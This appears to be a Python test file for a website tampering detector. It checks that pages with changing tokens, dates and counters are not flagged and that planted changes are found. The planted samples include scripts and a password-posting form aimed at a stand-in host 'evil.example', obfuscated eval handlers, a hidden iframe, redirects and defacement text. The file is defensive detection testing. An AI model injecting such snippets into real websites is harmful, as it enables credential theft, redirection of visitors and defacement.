#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""website_changes_test ZICHA - tampering: 204 pages that live (tokens, dates, counters, advertisements) are no change; what is planted in a page is."""
import csv
import io
import os
import random
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [os.path.join(HERE, "cli"), os.path.join(HERE, "website"), os.path.join(HERE, "vulnsite")]
from made_site import HTML, Site, redirect  # noqa: E402
from server import WORDS  # noqa: E402
from tap import done, equal, ok, zicha  # noqa: E402

FAST = ["--set", "web.rate=100000"]
chance = random.Random(20261122)
clock = {"n": 1795350000}
HAN = "通知公告医院门诊住院预约挂号专家介绍新闻动态党建工作信息公开联系我们健康科普政策法规招标采购人才招聘学术交流".encode().decode()


def token(n=32):
    return "".join(chance.choice("0123456789abcdef") for _ in range(n))


def count():
    return chance.randrange(100, 99999)


def now(how):
    clock["n"] += chance.randrange(30, 100000)
    return time.strftime(how, time.gmtime(clock["n"]))


def ago():
    return chance.choice([f"{chance.randrange(1, 59)}分钟前", f"{chance.randrange(1, 23)}小时前", f"{chance.randrange(1, 6)}天前", "刚刚"])


# What differs from look to look on pages that nobody worked on. {t} is the text of the page.
LIVELY = {
    "token": lambda t: f"<form method=post><input type=hidden name=_csrf value={token()}><input name=q></form>{t}",
    "number of the request": lambda t: f"{t}<p>Request-Id: {token(8)}-{token(4)}-{token(4)}-{token(12)}</p>",
    "Chinese date": lambda t: f"<p>今天是{now('%Y年%m月%d日')} 星期{chance.choice('一二三四五六日')} {now('%H:%M:%S')}</p>{t}",
    "English date": lambda t: f"<p>{now('%a, %d %b %Y %H:%M:%S GMT')} – {now('%B %d, %Y')}</p>{t}",
    "last change": lambda t: f"{t}<p>最后更新：{now('%Y-%m-%d %H:%M')}</p><p>更新时间：{now('%Y/%m/%d')}</p>",
    "visitors": lambda t: f"{t}<p>访问量：{count()} 次</p><p>您是第 {count()} 位访客</p>",
    "views": lambda t: f"{t}<p>{count()} views</p><p>阅读({count()})</p><p>点击数：{count()}</p><p>浏览[{count()}次]</p>",
    "time it took": lambda t: f"{t}<p>Processed in {chance.random():.6f} second(s), {chance.randrange(9, 40)} queries</p><p>页面执行时间：{chance.random():.4f}秒</p>",
    "people there": lambda t: f"<p>当前在线 {chance.randrange(3, 400)} 人</p><p>今日访问：{count()}</p>{t}",
    "advertisement": lambda t: f"<a href=https://ads.example.com/click?id={count()}><img src=https://ads.example.com/{token(8)}.jpg alt=''></a>{t}",
    "script of the day": lambda t: f"<script src=/app.js?v={count()}></script><script src=https://hm.example.com/h.js?{token()}></script>{t}",
    "session in the address": lambda t: f"<a href='/help;jsessionid={token().upper()}'>h</a><a href='/about?PHPSESSID={token(26)}'>a</a>{t}",
    "nonce and data": lambda t: f"<script nonce={token()}>var page = {{\"time\": {count()}, \"user\": \"{token(12)}\", \"items\": ["
                                f"{','.join(str(count()) for _ in range(chance.randrange(1, 9)))}]}}; start(page, '{now('%H:%M')}');</script>{t}",
    "data of a program": lambda t: f"<script>window.__STATE__=(function({','.join('abcdefgh'[:chance.randrange(2, 8)])}){{return {{items:["
                                   f"{','.join('{id%d:%d,title:a}' % (i, count()) for i in range(chance.randrange(1, 5)))}]}}}})({count()})</script>{t}",
    "ago": lambda t: f"{t}<ul>" + "".join(f"<li>{ago()}</li>" for _ in range(4)) + "</ul>",
    "names of elements": lambda t: f"<div id=el{count()} class='css-{token(6)}' data-v-{token(8)}>{t}</div><!-- {token()} web{chance.randrange(9)} -->",
    "captcha": lambda t: f"<img src=/captcha.jpg?r={chance.random()}><input name=vcode>{t}",
    "weather and year": lambda t: f"{t}<p>&copy; 2026 {now('%H时%M分')}</p><img src='data:image/png;base64,{token(40)}'>",
}


def text_of(n):
    own = random.Random(n)
    return (f"<h1>{''.join(own.choices(HAN, k=6))} {n}</h1><p>{' '.join(own.choices(WORDS, k=60))}</p><p>{''.join(own.choices(HAN, k=80))}</p>"
            f"<p>电话：010-{own.randrange(10**7, 10**8)}，房间 {own.randrange(100, 999)}</p>")


def page(body, title, head=""):
    return f"<!DOCTYPE html><html><head><title>{title}</title>{head}</head><body>{body}</body></html>"


def living(n, kind, body=None, head="", title=None):
    """A page that is made anew each time."""
    return lambda h: page(LIVELY[kind](body or text_of(n)), title or f"Page {n}", head)


kinds = list(LIVELY)
pages = {f"/p{n}": living(n, kinds[n % len(kinds)]) for n in range(203)}
pages["/"] = lambda h: page("".join(f"<a href={p}>{p}</a> " for p in sorted(pages) if p.startswith("/p")) + f"<p>访问量：{count()}</p>", "Home")
pages.update({"/help": page("help", "Help"), "/about": page("about", "About")})
site = Site(pages)


def changes(base, *columns):
    got = zicha("query", f"SELECT {', '.join(columns)} FROM web_changes", site.url + "/", "--set", f"web.baseline={base}", "--format", "csv", "--lang", "en", *FAST)
    ok(got.returncode in (0, 1), "the site was seen whole", got.stderr)
    return [tuple(c.replace(site.url, "") for c in row) for row in list(csv.reader(io.StringIO(got.stdout)))[1:]]


# What somebody plants: how the page n becomes another one.
EVIL = "evil.example"
PLANTED = {
    "a title": dict(title="澳门赌场"),
    "a word": dict(body=lambda t: t.replace("</p>", " hacked</p>", 1)),
    "a number": dict(body=lambda t: t.replace("电话：010-", "电话：020-")),
    "a text": dict(body=lambda t: "<h1>Owned</h1>"),
    "a script": dict(head=f"<script src=//{EVIL}/x.js></script>"),
    "a script of the site's own": dict(head="<script src=/upload/1.js></script>"),
    "a script on the page": dict(head="<script>eval(String.fromCharCode(97,108,101,114,116))</script>"),
    "a script that leads away": dict(head=f"<script>if(document.referrer)location='https://{EVIL}/'</script>"),
    "a handler": dict(body=lambda t: t + "<img src=/x onerror=\"eval(atob('YWxlcnQ='))\">"),
    "a link": dict(body=lambda t: t + f"<a href=http://{EVIL}/></a>"),
    "a hidden link": dict(body=lambda t: t + f"<div style='display:none'><a href=http://{EVIL}/>x</a></div>"),
    "a frame": dict(body=lambda t: t + f"<iframe src=http://{EVIL}/ width=0 height=0></iframe>"),
    "a refresh": dict(head=f"<meta http-equiv=refresh content='0;url=http://{EVIL}/'>"),
    "a form": dict(body=lambda t: t + f"<form action=http://{EVIL}/><input type=password></form>"),
    "a picture": dict(body=lambda t: t + f"<img src=http://{EVIL}/x.gif>"),
    "a style sheet": dict(head=f"<link rel=stylesheet href=http://{EVIL}/x.css>"),
    "a base": dict(head=f"<base href=http://{EVIL}/>"),
    "an object": dict(body=lambda t: t + f"<object data=http://{EVIL}/x.swf></object>"),
    "nothing at all": None,
    "another place": redirect(f"http://{EVIL}/"),
    "an empty page": (200, {"Content-Type": HTML}, ""),
    "a file": (200, {"Content-Type": "application/octet-stream"}, "MZ"),
}

with tempfile.TemporaryDirectory() as top:
    base = f"{top}/site.baseline"
    got = zicha("baseline", "make", "--target", site.url + "/", "--baseline", base, *FAST)
    ok(got.returncode == 0, "the state of the site is written down", got.stderr)
    false = changes(base, "page", "kind", "change", "before", "after")
    ok(len({f[0] for f in false}) <= 1, "at most one of 204 pages that live is told as changed", len(false), false[:20])

    places = {}
    for i, (fact, planted) in enumerate(PLANTED.items()):
        for k in (0, 1, 2):  # on three kinds of pages each
            n = (i * 7 + k * 70) % 203
            places[f"/p{n}"] = fact
            if isinstance(planted, dict):
                body = planted.get("body", lambda t: t)(text_of(n))
                site.pages[f"/p{n}"] = living(n, kinds[n % len(kinds)], body, planted.get("head", ""), planted.get("title"))
            elif planted is None:
                del site.pages[f"/p{n}"]
            else:
                site.pages[f"/p{n}"] = planted
    site.pages["/shell"] = page("shell", "Shell")
    site.pages["/p202"] = living(202, kinds[202 % len(kinds)], text_of(202) + "<a href=/shell></a>")
    found = {c[0] for c in changes(base, "page", "kind")}
    equal(sorted({fact for place, fact in places.items() if place not in found}), [], "whatever is planted in a page is found at the next look")
    ok("/shell" in found, "and a page that was not there")
    ok(len(found - set(places) - {"/shell", "/p202"}) <= 1, "and nothing else", sorted(found - set(places)))
site.close()
done()
